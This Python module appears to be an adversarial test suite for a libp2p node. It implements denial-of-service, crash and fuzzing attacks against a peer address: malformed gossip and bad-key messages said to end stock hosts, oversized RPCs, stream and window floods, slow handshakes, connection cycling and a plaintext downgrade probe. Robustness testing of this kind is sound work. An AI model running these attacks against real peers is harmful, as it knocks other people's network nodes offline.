"""Attacks on a live peer, each a function of its address (LIBP2P section 6, CHAIN 6.4 "flood").

    report = await attack_window_overrun(address, protocol=b"/meshsub/1.1.0")

None of them raises because of what the victim does: a refused connection is a fine defence. `ATTACKS` lists all that
need only the address; `hostile_cases` mixes them with random ones into as many cases as wanted, from a seed.
"""

from __future__ import annotations

import os
import random
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass
from typing import Final

import trio
from adversary.raw_peer import MESHSUB, RawPeer, open_socket, raw_peer
from adversary.wire import (
    DATA,
    HEADER,
    SYN,
    WINDOW_UPDATE,
    HandshakeFailed,
    NegotiationFailed,
    encode_varint,
    line,
)
from libp2p.pubsub.pb import rpc_pb2
from yumad.protocols.libp2p.socket_channel import ChannelClosed

GOSSIP: Final = MESHSUB.encode()


@dataclass(frozen=True, slots=True)
class AttackReport:
    """What happened, seen from the attacker."""

    name: str
    actions: int
    """Connections, streams, frames or writes made: whatever the attack counts."""

    dropped: bool
    """Whether the victim ended a connection or refused one."""

    seconds: float


Attack = Callable[[str], Awaitable[AttackReport]]


class _Clock:
    def __init__(self, name: str) -> None:
        self._name = name
        self._start = trio.current_time()
        self.actions = 0
        self.dropped = False

    def report(self) -> AttackReport:
        return AttackReport(self._name, self.actions, self.dropped, trio.current_time() - self._start)


async def _with_peer(
    name: str, address: str, script: Callable[[RawPeer, _Clock], Awaitable[None]], *, listening: bool = True
) -> AttackReport:
    """Dial, run the script, give the victim a moment to react."""
    clock = _Clock(name)
    try:
        async with raw_peer(address, listening=listening) as peer:
            await script(peer, clock)
            if listening:
                with trio.move_on_after(0.05):
                    await peer.ended.wait()
            clock.dropped = peer.gone
    except (OSError, ChannelClosed, HandshakeFailed, NegotiationFailed):
        clock.dropped = True
    return clock.report()


def _prefixed(body: bytes) -> bytes:
    return encode_varint(len(body)) + body


# --- gossip -----------------------------------------------------------------------------------------------------------


async def attack_malformed_gossip(address: str) -> AttackReport:
    """Six bytes that are no protobuf: ends a stock host."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        await peer.data(stream, b"\x05\xff\xff\xff\xff\xff")
        clock.actions = 1

    return await _with_peer("malformed gossip", address, script)


async def attack_bad_key_message(address: str, topic: str = "t") -> AttackReport:
    """A message whose public key is garbage, from a peer id that holds no key: ends a stock host."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        message = rpc_pb2.Message(
            data=b"x", topicIDs=[topic], from_id=b"\x12\x20" + bytes(32), seqno=b"1", key=b"\xff\xff", signature=b"s"
        )
        await peer.data(stream, _prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
        clock.actions = 1

    return await _with_peer("bad key message", address, script)


async def attack_object_bomb(address: str) -> AttackReport:
    """One RPC of half a million empty messages."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        body = _prefixed(b"\x12\x00" * 524_000)
        for start in range(0, len(body), 65_000):
            await peer.data(stream, body[start : start + 65_000])
            await trio.sleep(0.005)
        clock.actions = 524_000

    return await _with_peer("object bomb", address, script)


async def attack_oversized_rpc(address: str) -> AttackReport:
    """An RPC that claims to have 4 GiB."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        await peer.data(stream, encode_varint(1 << 32) + bytes(1000))
        clock.actions = 1

    return await _with_peer("oversized rpc", address, script)


async def attack_control_flood(address: str, topics: Sequence[str] = ("t",), rounds: int = 200) -> AttackReport:
    """GRAFT, PRUNE, IHAVE, IWANT and IDONTWANT for known and unknown topics, as fast as they go."""
    rng = random.Random(1)

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        for number in range(rounds):
            rpc = rpc_pb2.RPC()
            for topic in (*topics, f"unknown-{number}", rng.randbytes(8).hex()):
                rpc.subscriptions.add(subscribe=True, topicid=topic)
                rpc.control.graft.add(topicID=topic)
                rpc.control.prune.add(topicID=topic, backoff=1 << 62)
                rpc.control.ihave.add(topicID=topic, messageIDs=[rng.randbytes(20) for _ in range(50)])
            rpc.control.iwant.add(messageIDs=[rng.randbytes(20) for _ in range(50)])
            rpc.control.idontwant.add(messageIDs=[rng.randbytes(20) for _ in range(50)])
            await peer.data(stream, _prefixed(rpc.SerializeToString()))
            clock.actions += 1

    return await _with_peer("control flood", address, script)


async def attack_gossip_fuzz(
    address: str, rng: random.Random, *, topics: Sequence[str] = ("t",), writes: int = 50
) -> AttackReport:
    """Random RPCs, valid ones with flipped bytes, and random payloads on real topics."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(GOSSIP)
        for _ in range(writes):
            rpc = rpc_pb2.RPC()
            for _ in range(rng.randrange(4)):
                rpc.publish.add(
                    data=rng.randbytes(rng.randrange(300)),
                    topicIDs=[rng.choice(topics)] * rng.randrange(3),
                    from_id=rng.randbytes(rng.randrange(40)),
                    key=rng.randbytes(rng.randrange(40)),
                )
            if rng.random() < 0.5:
                rpc.control.ihave.add(topicID=rng.choice(topics), messageIDs=[rng.randbytes(rng.randrange(30))])
                rpc.control.graft.add(topicID=rng.choice(topics))
            body = bytearray(rpc.SerializePartialToString())
            for _ in range(rng.randrange(3)):
                if body:
                    body[rng.randrange(len(body))] = rng.randrange(256)
            await peer.data(stream, _prefixed(bytes(body)) if rng.random() < 0.9 else bytes(body))
            clock.actions += 1
            if peer.gone:
                return
            if rng.random() < 0.2:
                stream = await peer.open_stream(GOSSIP)

    return await _with_peer("gossip fuzz", address, script)


# --- streams ----------------------------------------------------------------------------------------------------------


async def attack_non_utf8_protocol(address: str) -> AttackReport:
    """A protocol name that is not text: ends a stock host."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        await peer.open_stream(b"\xff\xfe\xfd")
        clock.actions = 1

    return await _with_peer("non-UTF-8 protocol", address, script)


async def attack_endless_protocol_name(address: str, megabytes: int = 4) -> AttackReport:
    """A protocol name that claims to have 2^60 bytes, and starts to send them."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = peer.new_id()
        await peer.send(WINDOW_UPDATE, SYN, stream, 0)
        await peer.data(stream, encode_varint(1 << 60))
        for _ in range(megabytes * 16):
            await peer.data(stream, b"a" * 65_536)
            clock.actions += 1
            await trio.sleep(0.002)
            if peer.gone:
                return

    return await _with_peer("endless protocol name", address, script)


async def attack_window_overrun(address: str, protocol: bytes = b"/unread/1", megabytes: int = 32) -> AttackReport:
    """Send on one stream without caring for the window."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(protocol)
        for _ in range(megabytes * 16):
            await peer.data(stream, bytes(65_536))
            clock.actions += 1
            if peer.gone:
                return

    return await _with_peer("window overrun", address, script)


async def attack_unread_streams(address: str, protocol: bytes = b"/unread/1", streams: int = 250) -> AttackReport:
    """Fill the window of very many streams, each within the rules of its own window."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        for _ in range(streams):
            stream = await peer.open_stream(protocol)
            for _ in range(3):
                await peer.data(stream, bytes(65_536))
            clock.actions += 1
            if peer.gone:
                return

    return await _with_peer("unread streams", address, script)


async def attack_many_streams(address: str, count: int = 12_000) -> AttackReport:
    """Open streams and say nothing in them."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        for _ in range(count // 100):
            await peer.write(b"".join(HEADER.pack(0, WINDOW_UPDATE, SYN, peer.new_id(), 0) for _ in range(100)))
            clock.actions += 100
            if peer.gone:
                return

    return await _with_peer("many streams", address, script)


async def attack_opened_and_reset_streams(address: str, protocol: bytes = GOSSIP, count: int = 1000) -> AttackReport:
    """Open a stream, name a protocol, reset it; again and again on one connection."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        for _ in range(count):
            await peer.reset(await peer.open_stream(protocol))
            clock.actions += 1
            if peer.gone:
                return

    return await _with_peer("opened and reset streams", address, script)


async def attack_stream_fuzz(address: str, protocol: bytes, rng: random.Random, *, writes: int = 30) -> AttackReport:
    """Random writes on one protocol: noise, huge lengths, cut frames, early ends."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(protocol)
        for _ in range(writes):
            choice = rng.random()
            if choice < 0.5:
                await peer.data(stream, rng.randbytes(rng.randrange(1, 600)))
            elif choice < 0.65:
                await peer.data(stream, rng.randrange(1 << 32).to_bytes(4, "big") + rng.randbytes(rng.randrange(64)))
            elif choice < 0.8:
                body = rng.randbytes(rng.randrange(200))
                await peer.data(stream, _prefixed(body) + len(body).to_bytes(4, "big") + body)
            elif choice < 0.9:
                await peer.finish(stream)
                stream = await peer.open_stream(protocol)
            else:
                await peer.reset(stream)
                stream = await peer.open_stream(protocol)
            clock.actions += 1
            if peer.gone:
                return

    return await _with_peer(f"fuzz of {protocol.decode(errors='replace')}", address, script)


async def attack_muxer_fuzz(address: str, rng: random.Random, *, frames: int = 100) -> AttackReport:
    """Random yamux frames: unknown types, wrong stream numbers, untrue lengths."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        for _ in range(frames):
            kind, flags = rng.choice([0, 0, 1, 1, 2, 3, 4, 255]), rng.randrange(16)
            length = rng.choice([0, 1, 100, 65_536, 262_145, 1 << 24, (1 << 32) - 1])
            body = rng.randbytes(min(length, 200)) if kind == DATA else b""
            await peer.send(kind, flags, rng.choice([0, 1, 2, 3, 7, 1 << 31]), length, body)
            clock.actions += 1
            if peer.gone:
                return

    return await _with_peer("muxer fuzz", address, script)


async def attack_never_read(address: str, protocol: bytes = b"/ipfs/ping/1.0.0", megabytes: int = 8) -> AttackReport:
    """Provoke answers and read none of them."""

    async def script(peer: RawPeer, clock: _Clock) -> None:
        stream = await peer.open_stream(protocol)
        with trio.move_on_after(5):
            for _ in range(megabytes * 16):
                await peer.data(stream, bytes(1024))
                await peer.write(HEADER.pack(0, 2, SYN, 0, 7) * 5000)
                clock.actions += 1
                if peer.gone:
                    return

    return await _with_peer("never read", address, script, listening=False)


# --- connections ------------------------------------------------------------------------------------------------------


async def attack_silent_sockets(address: str, count: int = 400, hold: float = 1.0) -> AttackReport:
    """Hold TCP connections and say nothing in them."""
    clock = _Clock("silent sockets")
    streams: list[trio.SocketStream] = []
    try:
        for _ in range(count):
            streams.append(await open_socket(address))
            clock.actions += 1
        await trio.sleep(hold)
    except OSError:
        clock.dropped = True
    finally:
        for stream in streams:
            stream.socket.close()
    return clock.report()


async def attack_slow_handshakes(address: str, count: int = 100, hold: float = 1.0) -> AttackReport:
    """Hold TCP connections that begin the negotiation and then stop."""
    clock = _Clock("slow handshakes")
    streams: list[trio.SocketStream] = []
    try:
        for number in range(count):
            stream = await open_socket(address)
            streams.append(stream)
            await stream.send_all((line(b"/multistream/1.0.0") + line(b"/noise"))[: 1 + number % 28])
            clock.actions += 1
        await trio.sleep(hold)
    except (OSError, trio.BrokenResourceError):
        clock.dropped = True
    finally:
        for stream in streams:
            stream.socket.close()
    return clock.report()


async def attack_connect_cycles(address: str, count: int = 300) -> AttackReport:
    """Finish the handshake with a fresh key, leave, come again: stock hosts take no connection after 250."""
    clock = _Clock("connect cycles")
    for _ in range(count):
        try:
            async with raw_peer(address, listening=False):
                clock.actions += 1
        except (OSError, ChannelClosed, HandshakeFailed, NegotiationFailed):
            clock.dropped = True
    return clock.report()


async def attack_garbage_sockets(address: str, rng: random.Random, *, count: int = 50) -> AttackReport:
    """Random bytes instead of a handshake, some after a correct beginning."""
    clock = _Clock("garbage sockets")
    openings = (b"", line(b"/multistream/1.0.0"), line(b"/multistream/1.0.0") + line(b"/noise"), b"GET / HTTP/1.1\r\n")
    for _ in range(count):
        try:
            stream = await open_socket(address)
            try:
                await stream.send_all(rng.choice(openings) + rng.randbytes(rng.randrange(1, 400)))
                with trio.move_on_after(0.01):
                    await stream.receive_some(100)
            finally:
                stream.socket.close()
            clock.actions += 1
        except (OSError, trio.BrokenResourceError):
            clock.dropped = True
    return clock.report()


async def attack_plaintext(address: str) -> AttackReport:
    """Ask for an unencrypted connection: stock hosts agree. `dropped` is False when the victim agrees."""
    clock = _Clock("plaintext")
    try:
        stream = await open_socket(address)
        await stream.send_all(line(b"/multistream/1.0.0") + line(b"/plaintext/2.0.0"))
        answer = b""
        with trio.move_on_after(1):
            while answer.count(b"\n") < 2:
                chunk = await stream.receive_some(100)
                if not chunk:
                    break
                answer += chunk
        stream.socket.close()
        clock.actions = 1
        clock.dropped = b"/plaintext/2.0.0" not in answer
    except (OSError, trio.BrokenResourceError):
        clock.dropped = True
    return clock.report()


ATTACKS: Final[dict[str, Attack]] = {
    "malformed gossip": attack_malformed_gossip,
    "bad key message": attack_bad_key_message,
    "object bomb": attack_object_bomb,
    "oversized rpc": attack_oversized_rpc,
    "control flood": attack_control_flood,
    "non-UTF-8 protocol": attack_non_utf8_protocol,
    "endless protocol name": attack_endless_protocol_name,
    "window overrun": attack_window_overrun,
    "unread streams": attack_unread_streams,
    "many streams": attack_many_streams,
    "opened and reset streams": attack_opened_and_reset_streams,
    "never read": attack_never_read,
    "silent sockets": attack_silent_sockets,
    "slow handshakes": attack_slow_handshakes,
    "connect cycles": attack_connect_cycles,
    "plaintext": attack_plaintext,
}
"""Every attack that needs only an address."""


def hostile_cases(
    seed: int, count: int, *, topics: Sequence[str], protocols: Sequence[bytes]
) -> list[tuple[str, Attack]]:
    """`count` named cases from a seed: each of ATTACKS once, the rest fuzz of gossip, muxer, sockets and protocols."""
    cases: list[tuple[str, Attack]] = list(ATTACKS.items())[:count]

    def fuzz(number: int) -> tuple[str, Attack]:
        rng = random.Random(f"{seed}/{number}")
        kind = number % (3 + len(protocols))
        if kind == 0:
            return f"gossip fuzz {number}", lambda address: attack_gossip_fuzz(address, rng, topics=topics)
        if kind == 1:
            return f"muxer fuzz {number}", lambda address: attack_muxer_fuzz(address, rng)
        if kind == 2:
            return f"garbage sockets {number}", lambda address: attack_garbage_sockets(address, rng, count=10)
        protocol = protocols[kind - 3]
        name = f"fuzz of {protocol.decode(errors='replace')} {number}"
        return name, lambda address: attack_stream_fuzz(address, protocol, rng)

    cases += [fuzz(number) for number in range(count - len(cases))]
    random.Random(seed).shuffle(cases)
    return cases


def resident_bytes(pid: int | None = None) -> int:
    """Resident memory of a process (Linux), this one by default."""
    with open(f"/proc/{pid or 'self'}/statm", encoding="ascii") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
